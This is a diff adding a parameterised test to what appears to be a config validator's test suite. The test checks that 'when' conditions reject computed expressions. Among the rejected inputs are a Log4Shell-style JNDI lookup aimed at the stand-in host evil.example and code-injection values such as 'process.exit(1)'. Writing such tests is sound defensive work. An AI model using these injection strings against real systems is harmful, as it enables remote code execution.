@@ -303,6 +303,22 @@ describe('a mistake is told with its line and what to do', () => {
   });
 });
 
+test.each([
+  '[restart-loop > 5]',
+  '[restart-loop || job-failed]',
+  '["process.exit(1)"]',
+  '["${jndi:ldap://evil.example/a}"]',
+  'restart-loop && true',
+  '{ js: "return true" }',
+  '[[restart-loop]]',
+])('when holds names of signals and nothing that is computed: %s', (when) => {
+  const problems = problemsOf(
+    changed('actions: []', `actions: [restart-job]\nplan:\n  - action: restart-job\n    when: ${when}`),
+  );
+
+  expect(problems).toEqual([expect.objectContaining({ line: 11 })]);
+});
+
 test('never throws, whatever a file holds', () => {
   const part = fc.oneof(
     fc.string({ unit: 'binary' }),
